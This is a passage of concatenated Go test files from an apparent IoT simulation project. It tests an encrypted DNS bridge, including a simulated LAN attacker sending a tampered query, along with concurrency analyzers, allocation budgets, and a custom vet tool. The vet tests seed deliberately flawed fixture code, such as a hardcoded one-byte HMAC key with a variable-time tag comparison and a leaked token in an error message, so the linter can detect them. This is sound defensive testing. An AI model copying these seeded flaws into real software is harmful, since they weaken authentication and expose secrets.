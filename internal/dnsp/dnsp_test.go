package dnsp

import (
	"bytes"
	"errors"
	"testing"
	"time"

	"xlf/internal/lwc"
	"xlf/internal/netsim"
	"xlf/internal/sim"
)

func testCodec(t *testing.T) *Codec {
	t.Helper()
	blk, err := lwc.NewPRESENT(bytes.Repeat([]byte{3}, 10))
	if err != nil {
		t.Fatal(err)
	}
	c, err := NewCodec(blk)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestCodecRoundTrip(t *testing.T) {
	c := testCodec(t)
	for _, name := range []string{"api.nest.example", "a", "", "very.long.subdomain.vendor.example.with.many.labels"} {
		sealed, err := c.Seal(name)
		if err != nil {
			t.Fatal(err)
		}
		got, err := c.Open(sealed)
		if err != nil {
			t.Fatalf("Open(%q): %v", name, err)
		}
		if got != name {
			t.Errorf("roundtrip = %q, want %q", got, name)
		}
	}
}

func TestCodecConfidentiality(t *testing.T) {
	c := testCodec(t)
	sealed, _ := c.Seal("secret.vendor.example")
	if bytes.Contains(sealed, []byte("secret")) || bytes.Contains(sealed, []byte("vendor")) {
		t.Error("sealed message leaks plaintext")
	}
	// Same name sealed twice yields different ciphertexts (fresh nonce).
	s2, _ := c.Seal("secret.vendor.example")
	if bytes.Equal(sealed, s2) {
		t.Error("nonce reuse: identical ciphertexts")
	}
}

func TestCodecTamperDetection(t *testing.T) {
	c := testCodec(t)
	sealed, _ := c.Seal("fw.vendor.example")
	for i := range sealed {
		mut := append([]byte(nil), sealed...)
		mut[i] ^= 0x01
		if _, err := c.Open(mut); err == nil {
			t.Fatalf("bit-flip at %d accepted", i)
		}
	}
	if _, err := c.Open([]byte{1, 2, 3}); !errors.Is(err, ErrTooShort) {
		t.Errorf("short message err = %v", err)
	}
}

func TestCodecRejectsTinyBlocks(t *testing.T) {
	hb, err := lwc.NewHummingbird2(make([]byte, 32))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewCodec(hb); err == nil {
		t.Error("16-bit block accepted")
	}
}

// bridgeFixture wires device stub -> bridge -> DoT resolver -> DNS server.
type bridgeFixture struct {
	kernel *sim.Kernel
	net    *netsim.Network
	stub   *Stub
	bridge *Bridge
	lanCap *netsim.Capture
	wanCap *netsim.Capture
}

func buildBridge(t *testing.T) *bridgeFixture {
	t.Helper()
	k := sim.NewKernel(77)
	n := netsim.New(k)
	f := &bridgeFixture{kernel: k, net: n, lanCap: netsim.NewCapture(), wanCap: netsim.NewCapture()}

	srv := netsim.NewDNSServer("wan:dns", []netsim.DNSRecord{
		{Name: "api.nest.example", Addr: "wan:nest", TTL: time.Minute},
	})
	res := netsim.NewResolver("lan:resolver", "wan:dns", "DoT")

	blk, err := lwc.NewPRESENT(bytes.Repeat([]byte{3}, 10))
	if err != nil {
		t.Fatal(err)
	}
	codec, err := NewCodec(blk)
	if err != nil {
		t.Fatal(err)
	}
	f.bridge = NewBridge("lan:dnsbridge", codec, res)
	f.stub = NewStub("lan:thermo", "lan:dnsbridge", codec)

	dev := &netsim.FuncNode{Address: "lan:thermo", Fn: func(_ *netsim.Network, pkt *netsim.Packet) {
		f.stub.HandleResponse(pkt)
	}}

	for _, node := range []netsim.Node{srv, res, f.bridge, dev} {
		link := netsim.DefaultLAN()
		if node.Addr() == "wan:dns" {
			link = netsim.DefaultWAN()
		}
		if err := n.Attach(node, link); err != nil {
			t.Fatal(err)
		}
	}
	n.AddTap(netsim.TapLAN, f.lanCap.Tap())
	n.AddTap(netsim.TapWAN, f.wanCap.Tap())
	return f
}

func TestBridgeEndToEnd(t *testing.T) {
	f := buildBridge(t)
	var got netsim.Addr
	var gotErr error
	if err := f.stub.Query(f.net, "api.nest.example", func(a netsim.Addr, err error) { got, gotErr = a, err }); err != nil {
		t.Fatal(err)
	}
	if err := f.kernel.Run(5 * time.Second); err != nil {
		t.Fatal(err)
	}
	if gotErr != nil {
		t.Fatal(gotErr)
	}
	if got != "wan:nest" {
		t.Errorf("resolved %q, want wan:nest", got)
	}
	served, tampered := f.bridge.Stats()
	if served != 1 || tampered != 0 {
		t.Errorf("bridge stats = %d/%d", served, tampered)
	}
}

func TestBridgeHidesNamesFromObservers(t *testing.T) {
	f := buildBridge(t)
	f.stub.Query(f.net, "api.nest.example", func(netsim.Addr, error) {})
	f.kernel.Run(5 * time.Second)
	for _, r := range append(f.lanCap.Records(), f.wanCap.Records()...) {
		if r.DNSName != "" {
			t.Errorf("observer saw DNS name %q on %s->%s proto=%s", r.DNSName, r.Src, r.Dst, r.Proto)
		}
	}
}

func TestBridgeNXDomain(t *testing.T) {
	f := buildBridge(t)
	var gotErr error
	f.stub.Query(f.net, "ghost.example", func(a netsim.Addr, err error) { gotErr = err })
	f.kernel.Run(5 * time.Second)
	if gotErr == nil {
		t.Error("NXDOMAIN not propagated through the bridge")
	}
}

func TestBridgeRejectsTamperedQueries(t *testing.T) {
	f := buildBridge(t)
	// An on-LAN attacker replays a mangled sealed query.
	blk, _ := lwc.NewPRESENT(bytes.Repeat([]byte{3}, 10))
	otherCodec, _ := NewCodec(blk)
	sealed, _ := otherCodec.Seal("api.nest.example")
	sealed[10] ^= 0xFF
	f.net.Send(&netsim.Packet{
		Src: "lan:attacker", Dst: "lan:dnsbridge", SrcPort: 4444, DstPort: 8853,
		Proto: "XLF-DNS", Size: 60, Encrypted: true, Payload: sealed,
	})
	f.kernel.Run(5 * time.Second)
	_, tampered := f.bridge.Stats()
	if tampered != 1 {
		t.Errorf("tampered = %d, want 1", tampered)
	}
}
