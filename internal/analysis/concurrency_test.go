package analysis

// Tests for the concurrency-safety layer: lockorder, goroleak,
// atomicmix and hotpathalloc, each against its `// want` fixture tree,
// plus a fuzz smoke over the lock-order graph construction.

import (
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"testing"
)

func TestLockOrderFixture(t *testing.T) {
	checkFixture(t, "lockorder", NewLockOrder(nil))
}

func TestGoroLeakFixture(t *testing.T) {
	checkFixture(t, "goroleak", NewGoroLeak())
}

func TestAtomicMixFixture(t *testing.T) {
	checkFixture(t, "atomicmix", NewAtomicMix())
}

func TestHotPathAllocFixture(t *testing.T) {
	checkFixture(t, "hotpathalloc", NewHotPathAlloc(nil))
}

// FuzzLockOrderGraph feeds arbitrary source through the full lockorder
// pipeline — summaries, CFG dataflow, cycle search — and asserts it
// neither panics nor loops. scripts/check.sh runs this as a smoke
// target alongside FuzzCFGBuild.
func FuzzLockOrderGraph(f *testing.F) {
	seed, err := os.ReadFile(filepath.Join("testdata", "lockorder", "src.go"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(string(seed))
	f.Add("package p\nimport \"sync\"\nvar mu sync.Mutex\nfunc f() { mu.Lock(); mu.Lock() }")
	f.Add("package p\nfunc f() { defer g(); go h() }\nfunc g() {}\nfunc h() {}")
	f.Fuzz(func(t *testing.T, src string) {
		fset := token.NewFileSet()
		file, err := parser.ParseFile(fset, "fuzz.go", src, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Skip()
		}
		pkg := &Package{
			ImportPath: "fuzz",
			Fset:       fset,
			Files:      []File{{Name: "fuzz.go", AST: file}},
		}
		a := NewLockOrder(nil)
		a.Prepare([]*Package{pkg})
		_ = a.Check(pkg)
	})
}
