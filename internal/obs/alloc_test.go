package obs

import (
	"fmt"
	"testing"
	"time"
)

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestHotPathAllocFree is the dynamic half of the //xlf:hotpath
// contract (the static half is the hotpathalloc vet rule): the
// disabled-tracer emit path and the metric update paths must not
// allocate.
func TestHotPathAllocFree(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	t.Run("nil tracer emit", func(t *testing.T) {
		var tr *Tracer
		if n := testing.AllocsPerRun(200, func() {
			tr.EmitAt(0, LayerSim, "event", "", "noop")
			tr.Emit(LayerCore, "ingest", "dev-1", "signal")
			tr.EmitSpan(Span{Layer: LayerNetsim, Op: "send"})
		}); n != 0 {
			t.Errorf("disabled-tracer emit allocates %.1f per run, want 0", n)
		}
	})

	t.Run("counter inc", func(t *testing.T) {
		r := NewRegistry()
		c := r.Counter("alloc.test")
		g := r.Gauge("alloc.gauge")
		if n := testing.AllocsPerRun(200, func() {
			c.Inc()
			c.Add(3)
			g.Set(7)
			g.Add(-2)
		}); n != 0 {
			t.Errorf("metric updates allocate %.1f per run, want 0", n)
		}
	})

	t.Run("nil recorder emit", func(t *testing.T) {
		var f *FlightRecorder
		if n := testing.AllocsPerRun(200, func() {
			f.Record(Span{Layer: LayerCore, Op: "ingest"})
			f.Trigger(0, TriggerAlert)
		}); n != 0 {
			t.Errorf("disabled-recorder emit allocates %.1f per run, want 0", n)
		}
	})

	t.Run("live recorder emit", func(t *testing.T) {
		f := NewFlightRecorder(64, 4)
		if n := testing.AllocsPerRun(200, func() {
			f.Record(Span{Layer: LayerCore, Op: "ingest", Device: "cam-1"})
			f.Trigger(0, TriggerAlert)
			f.Trigger(0, TriggerDropSpike)
		}); n != 0 {
			t.Errorf("enabled-recorder emit allocates %.1f per run, want 0", n)
		}
	})

	t.Run("traced emit with recorder tee", func(t *testing.T) {
		tr := NewTracer(64, nil)
		tr.SetRecorder(NewFlightRecorder(64, 4))
		if n := testing.AllocsPerRun(200, func() {
			tr.EmitAt(0, LayerCore, "ingest", "cam-1", "signal")
		}); n != 0 {
			t.Errorf("traced emit with recorder tee allocates %.1f per run, want 0", n)
		}
	})

	t.Run("detection observe", func(t *testing.T) {
		d := NewDetectionTracker(nil, time.Hour)
		d.Inject(0, "mirai", "cam-1")
		if n := testing.AllocsPerRun(200, func() {
			d.Observe(1, "cam-1")  // hit (first run) then cleared
			d.Observe(1, "cam-99") // miss: the common hot-path case
		}); n != 0 {
			t.Errorf("detection observe allocates %.1f per run, want 0", n)
		}
	})

	t.Run("nil detection observe", func(t *testing.T) {
		var d *DetectionTracker
		if n := testing.AllocsPerRun(200, func() {
			d.Observe(1, "cam-1")
		}); n != 0 {
			t.Errorf("disabled-tracker observe allocates %.1f per run, want 0", n)
		}
	})
}

// BenchmarkRegistrySnapshot pins the cost the rollup engine pays every
// window: a full copy of a registry at harness scale (the satellite
// preallocation fix keeps it to one allocation per sample slice plus the
// bucket copies).
func BenchmarkRegistrySnapshot(b *testing.B) {
	r := NewRegistry()
	for i := 0; i < 32; i++ {
		r.Counter(fmt.Sprintf("counter.%d", i)).Add(uint64(i))
	}
	for i := 0; i < 8; i++ {
		r.Gauge(fmt.Sprintf("gauge.%d", i)).Set(int64(i))
	}
	for i := 0; i < 8; i++ {
		h := r.Histogram(fmt.Sprintf("hist.%d", i))
		for v := uint64(1); v < 1<<20; v <<= 1 {
			h.Observe(v)
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		snap := r.Snapshot()
		if len(snap.Counters) != 32 {
			b.Fatal("snapshot lost counters")
		}
	}
}

// BenchmarkRollupTick measures the per-window rollup cost at the same
// registry scale — the cold-path budget the telemetry pipeline pays once
// per simulated window.
func BenchmarkRollupTick(b *testing.B) {
	r := NewRegistry()
	for i := 0; i < 32; i++ {
		r.Counter(fmt.Sprintf("counter.%d", i)).Add(uint64(i))
	}
	for i := 0; i < 8; i++ {
		h := r.Histogram(fmt.Sprintf("hist.%d", i))
		for v := uint64(1); v < 1<<20; v <<= 1 {
			h.Observe(v)
		}
	}
	ru := NewRollup(r, time.Second, 16)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ru.Tick(time.Duration(i+1) * time.Second)
	}
}
