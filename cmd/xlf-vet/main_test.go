package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// repoRoot walks up to the module root so tests can vet the real tree.
func repoRoot(t testing.TB) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Fatal("no go.mod above test directory")
		}
		dir = parent
	}
}

// TestRepoTipIsClean is the acceptance gate: xlf-vet over the whole
// module exits 0 with no output.
func TestRepoTipIsClean(t *testing.T) {
	root := repoRoot(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "-baseline", filepath.Join(root, "vet-baseline.json"), "./..."}, &stdout, &stderr)
	if code != 0 {
		t.Fatalf("exit %d, want 0\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	if stdout.Len() != 0 {
		t.Errorf("clean run printed findings:\n%s", stdout.String())
	}
}

func TestRepoTipJSONIsEmpty(t *testing.T) {
	root := repoRoot(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-baseline", filepath.Join(root, "vet-baseline.json"), "-json", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d, want 0; stderr: %s", code, stderr.String())
	}
	var findings []map[string]any
	if err := json.Unmarshal(stdout.Bytes(), &findings); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, stdout.String())
	}
	if len(findings) != 0 {
		t.Errorf("want no findings, got %v", findings)
	}
}

// seedModule writes a throwaway module named "xlf" (so the repo's rule
// configuration applies) containing one violation of each rule.
func seedModule(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	write := func(rel, content string) {
		t.Helper()
		path := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module xlf\n\ngo 1.22\n")
	// layercheck: the device layer reaching into the service layer. The
	// package also hosts the plaintextescape source constructor.
	write("internal/device/device.go", `package device

import "xlf/internal/service"

var _ = service.Cloud{}

func NewPayload(id, kind, body string) []byte {
	return []byte(kind + ":" + id + ":" + body)
}
`)
	// secretleak: raw token material formatted into an error.
	write("internal/service/service.go", `package service

import (
	"fmt"

	"xlf/internal/xauth"
)

type Cloud struct{}

func (c *Cloud) Reject(s *xauth.Signer) error {
	return fmt.Errorf("bad token %v", s.Issue("u1"))
}
`)
	// The network-layer sink for plaintextescape.
	write("internal/netsim/netsim.go", `package netsim

type Packet struct{ Payload []byte }

type Network struct{}

func (n *Network) Send(p *Packet) {}
`)
	// plaintextescape: an unsealed device payload crossing into netsim.
	// shardescape: a sim-owned kernel parked in package state; shardhandle:
	// a generation token sent on a channel; shardphase: an ingest-phase
	// function calling shard-phase dispatch.
	write("internal/testbed/testbed.go", `package testbed

import (
	"xlf/internal/device"
	"xlf/internal/netsim"
	"xlf/internal/sim"
)

func Keepalive(n *netsim.Network) {
	n.Send(&netsim.Packet{Payload: device.NewPayload("d1", "keepalive", "")})
}

var captive *sim.Kernel

func Boot() {
	k := sim.NewKernel()
	captive = k
}

func Post(ch chan sim.Handle, k *sim.Kernel) {
	h := k.Schedule()
	ch <- h
}

//xlf:phase(ingest)
func Ingest(k *sim.Kernel) {
	k.Step()
}
`)
	// metrics is outside the deterministic set: its clock read is only
	// reachable through the call graph.
	write("internal/metrics/metrics.go", `package metrics

import "time"

func Stamp() int64 { return time.Now().UnixNano() }
`)
	// detflow: the reproduction contract broken through the cross-package
	// helper — invisible to the per-file determinism rule.
	write("internal/exp/exp.go", `package exp

import "xlf/internal/metrics"

func Tick() int64 { return metrics.Stamp() }
`)
	// determinism: a wall-clock read inside the simulator; globalmut: a
	// package-level write; maporder: keys collected in iteration order.
	// The package also hosts the shardsafe roster — the owned constructor,
	// the generation token and the shard-phase dispatcher — consumed by
	// the testbed violations below.
	write("internal/sim/sim.go", `package sim

import "time"

func Now() time.Time { return time.Now() }

var seen = map[string]bool{}

func Mark(k string) { seen[k] = true }

func Keys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

type Kernel struct{ n int }

// NewKernel builds per-run kernel state.
//
//xlf:owned(sim)
func NewKernel() *Kernel { return &Kernel{} }

type Handle struct{ slot, gen uint32 }

func (k *Kernel) Schedule() Handle { return Handle{slot: 1} }

//xlf:phase(shard)
func (k *Kernel) Step() { k.n++ }
`)
	// lockcheck: a mutex-holder copied through a value receiver.
	write("internal/core/core.go", `package core

import "sync"

type Engine struct {
	mu sync.Mutex
}

func (e Engine) Lock() { e.mu.Lock() }
`)
	// errdrop: a discarded verification error in xauth. Signer.Issue is
	// the secretleak source consumed by the service package; keep this
	// package's own findings at exactly the one errdrop (TestJSONFindings
	// counts on it).
	write("internal/xauth/xauth.go", `package xauth

import "errors"

type Signer struct{}

func (s *Signer) Issue(subject string) string { return subject }

func Verify() error { return errors.New("bad") }

func Use() { Verify() }
`)
	// dpi hosts the CFG-family violations: cryptomisuse (a hardcoded
	// short HMAC key and a variable-time tag compare, the latter carrying
	// a suggested fix), a dead store, and unreachable code.
	write("internal/dpi/dpi.go", `package dpi

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
)

func Verify(msg, tag []byte) bool {
	m := hmac.New(sha256.New, []byte("k"))
	m.Write(msg)
	return bytes.Equal(m.Sum(nil), tag)
}

func Classify(b []byte) int {
	n := 0
	n = len(b)
	return n
}

func Drop(b []byte) int {
	return len(b)
	panic("unreachable")
}
`)
	return root
}

// TestSeededViolationsFail verifies each rule fires with a file:line:
// [rule] diagnostic and a non-zero exit.
func TestSeededViolationsFail(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "./..."}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	out := stdout.String()
	for _, want := range []struct{ file, rule string }{
		{"internal/device/device.go", "layercheck"},
		{"internal/sim/sim.go", "determinism"},
		{"internal/exp/exp.go", "detflow"},
		{"internal/sim/sim.go", "globalmut"},
		{"internal/sim/sim.go", "maporder"},
		{"internal/core/core.go", "lockcheck"},
		{"internal/xauth/xauth.go", "errdrop"},
		{"internal/testbed/testbed.go", "plaintextescape"},
		{"internal/testbed/testbed.go", "shardescape"},
		{"internal/testbed/testbed.go", "shardhandle"},
		{"internal/testbed/testbed.go", "shardphase"},
		{"internal/service/service.go", "secretleak"},
		{"internal/core/core.go", "pairing"},
		{"internal/dpi/dpi.go", "cryptomisuse"},
		{"internal/dpi/dpi.go", "deadstore"},
		{"internal/dpi/dpi.go", "unreachable"},
	} {
		re := regexp.MustCompile(regexp.QuoteMeta(want.file) + `:\d+: \[` + want.rule + `\]`)
		if !re.MatchString(out) {
			t.Errorf("missing %s diagnostic for %s in output:\n%s", want.rule, want.file, out)
		}
	}
	// The seeded service/ package is reachable but clean; make sure noise
	// stays proportional (one finding per seeded violation, none extra
	// beyond the "not in table" entries for the temp module's packages).
	if !strings.Contains(stderr.String(), "finding(s)") {
		t.Errorf("stderr missing findings summary: %s", stderr.String())
	}
}

// TestDisableDropsRule shows -disable removes exactly that rule.
func TestDisableDropsRule(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "-disable", "cryptomisuse,deadstore,determinism,detflow,errdrop,globalmut,layercheck,lockcheck,maporder,pairing,plaintextescape,secretleak,shardsafe,unreachable", "./..."}, &stdout, &stderr)
	if code != 0 {
		t.Fatalf("exit %d with all rules disabled, want 0\n%s%s", code, stdout.String(), stderr.String())
	}

	stdout.Reset()
	stderr.Reset()
	code = run([]string{"-root", root, "-disable", "lockcheck", "./..."}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1", code)
	}
	if strings.Contains(stdout.String(), "[lockcheck]") {
		t.Errorf("disabled rule still reported:\n%s", stdout.String())
	}
	if !strings.Contains(stdout.String(), "[determinism]") {
		t.Errorf("remaining rules missing:\n%s", stdout.String())
	}
}

func TestUnknownRuleRejected(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", repoRoot(t), "-disable", "nope", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "unknown rule") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

// TestPackagePatterns narrows the run to a subtree.
func TestPackagePatterns(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "./internal/sim"}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s", code, stderr.String())
	}
	out := stdout.String()
	if !strings.Contains(out, "[determinism]") {
		t.Errorf("sim-only run missing determinism finding:\n%s", out)
	}
	for _, other := range []string{"[layercheck]", "[lockcheck]", "[errdrop]"} {
		if strings.Contains(out, other) {
			t.Errorf("sim-only run leaked %s findings:\n%s", other, out)
		}
	}
}

// TestNoMatchPatternRejected: a typo'd pattern must not pass vacuously.
func TestNoMatchPatternRejected(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", repoRoot(t), "./does/not/exist"}, &stdout, &stderr); code != 2 {
		t.Fatalf("exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "matched no packages") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

// TestJSONFindings checks the machine-readable shape on a dirty module.
func TestJSONFindings(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-json", "./internal/xauth"}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1", code)
	}
	var findings []struct {
		File    string `json:"file"`
		Line    int    `json:"line"`
		Rule    string `json:"rule"`
		Message string `json:"message"`
	}
	if err := json.Unmarshal(stdout.Bytes(), &findings); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, stdout.String())
	}
	if len(findings) != 1 || findings[0].Rule != "errdrop" || findings[0].Line == 0 {
		t.Errorf("findings = %+v, want one errdrop entry with a line", findings)
	}
}

// checkGolden compares got against testdata/<name>, rewriting the file
// when UPDATE_GOLDEN=1 is set in the environment.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if os.Getenv("UPDATE_GOLDEN") == "1" {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("missing golden (run with UPDATE_GOLDEN=1 to create): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (UPDATE_GOLDEN=1 regenerates)\n--- got ---\n%s\n--- want ---\n%s", path, got, want)
	}
}

// TestJSONGolden pins the machine-readable output byte-for-byte: finding
// paths are module-relative, so the seeded module renders identically
// regardless of the temp directory it lives in.
func TestJSONGolden(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-json", "./..."}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1\n%s", code, stderr.String())
	}
	checkGolden(t, "seed.json", stdout.Bytes())
}

// TestSARIFGolden pins the SARIF 2.1.0 shape and round-trips it through
// the JSON decoder as a structural validity check.
func TestSARIFGolden(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-sarif", "./..."}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1\n%s", code, stderr.String())
	}
	var log struct {
		Schema  string `json:"$schema"`
		Version string `json:"version"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string           `json:"name"`
					Rules []map[string]any `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				RuleIndex int    `json:"ruleIndex"`
				Level     string `json:"level"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(stdout.Bytes(), &log); err != nil {
		t.Fatalf("bad SARIF JSON: %v", err)
	}
	if log.Version != "2.1.0" || !strings.Contains(log.Schema, "sarif-2.1.0") {
		t.Errorf("schema/version = %q / %q, want SARIF 2.1.0", log.Schema, log.Version)
	}
	if len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name != "xlf-vet" {
		t.Fatalf("want one run from driver xlf-vet, got %+v", log.Runs)
	}
	rules := log.Runs[0].Tool.Driver.Rules
	if len(rules) != 20 {
		t.Errorf("rules array has %d entries, want all 20 configured rules", len(rules))
	}
	for _, r := range log.Runs[0].Results {
		if r.Level != "error" {
			t.Errorf("result %s has level %q, want error", r.RuleID, r.Level)
		}
		if r.RuleIndex < 0 || r.RuleIndex >= len(rules) || rules[r.RuleIndex]["id"] != r.RuleID {
			t.Errorf("result %s: ruleIndex %d does not point at its rule", r.RuleID, r.RuleIndex)
		}
	}
	checkGolden(t, "seed.sarif", stdout.Bytes())
}

// TestSARIFAndJSONExclusive: the two machine formats cannot be combined.
func TestSARIFAndJSONExclusive(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-json", "-sarif", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "mutually exclusive") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

// TestBaselineRoundTrip freezes the seeded findings, shows the next run
// is clean under the baseline, then proves a NEW violation still fails.
func TestBaselineRoundTrip(t *testing.T) {
	root := seedModule(t)
	base := filepath.Join(t.TempDir(), "baseline.json")

	// -write-baseline requires -baseline.
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-write-baseline", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("write-baseline without -baseline: exit %d, want 2", code)
	}

	// Freeze the current findings.
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-write-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("write-baseline: exit %d, want 0\n%s", code, stderr.String())
	}

	// Same tree, baseline applied: clean exit, suppression reported.
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("baselined run: exit %d, want 0\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	if stdout.Len() != 0 {
		t.Errorf("baselined run printed findings:\n%s", stdout.String())
	}
	if !strings.Contains(stderr.String(), "suppressed by baseline") {
		t.Errorf("stderr missing suppression note: %q", stderr.String())
	}

	// Introduce a fresh violation: only it must surface.
	if err := os.WriteFile(filepath.Join(root, "internal/sim/extra.go"), []byte(`package sim

import "time"

func Later() time.Time { return time.Now().Add(time.Second) }
`), 0o644); err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./..."}, &stdout, &stderr); code != 1 {
		t.Fatalf("new violation under baseline: exit %d, want 1\n%s", code, stderr.String())
	}
	out := stdout.String()
	if !strings.Contains(out, "internal/sim/extra.go") || !strings.Contains(out, "[determinism]") {
		t.Errorf("new violation not reported:\n%s", out)
	}
	if strings.Count(out, "\n") != 1 {
		t.Errorf("want exactly the one new finding, got:\n%s", out)
	}
}

// TestBaselineStaleDetectionAndPrune: fixing a baselined violation turns
// its waiver stale; a full-module run warns about it, and
// -prune-baseline rewrites the file without it while keeping the live
// entries (and their justifications).
func TestBaselineStaleDetectionAndPrune(t *testing.T) {
	root := seedModule(t)
	base := filepath.Join(t.TempDir(), "baseline.json")

	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", root, "-baseline", base, "-write-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("write-baseline: exit %d\n%s", code, stderr.String())
	}

	// -prune-baseline guards: it needs -baseline and a full-module run.
	stderr.Reset()
	if code := run([]string{"-root", root, "-prune-baseline", "./..."}, &stdout, &stderr); code != 2 {
		t.Fatalf("prune without -baseline: exit %d, want 2", code)
	}
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-prune-baseline", "./internal/sim"}, &stdout, &stderr); code != 2 {
		t.Fatalf("prune on a narrowed run: exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), "full-module") {
		t.Errorf("stderr = %q", stderr.String())
	}

	// Fix the simulator's wall-clock read: its waiver is now stale, and
	// a full-module baselined run says so on stderr while staying clean.
	if err := os.WriteFile(filepath.Join(root, "internal/sim/sim.go"), []byte(`package sim

import "time"

func Now(c func() time.Time) time.Time { return c() }
`), 0o644); err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("baselined run after fix: exit %d\n%s%s", code, stdout.String(), stderr.String())
	}
	if !strings.Contains(stderr.String(), "stale baseline waiver") || !strings.Contains(stderr.String(), "internal/sim/sim.go") {
		t.Errorf("stale waiver not reported:\n%s", stderr.String())
	}
	// A narrowed run must NOT cry stale over packages it skipped.
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "./internal/xauth"}, &stdout, &stderr); code != 0 {
		t.Fatalf("narrowed baselined run: exit %d\n%s", code, stderr.String())
	}
	if strings.Contains(stderr.String(), "stale baseline waiver") {
		t.Errorf("narrowed run misreported staleness:\n%s", stderr.String())
	}

	// Prune, then: no warnings, still clean, surviving entries intact.
	before, err := os.ReadFile(base)
	if err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := run([]string{"-root", root, "-baseline", base, "-prune-baseline", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("prune: exit %d\n%s", code, stderr.String())
	}
	if !strings.Contains(stderr.String(), "pruned") {
		t.Errorf("stderr = %q", stderr.String())
	}
	after, err := os.ReadFile(base)
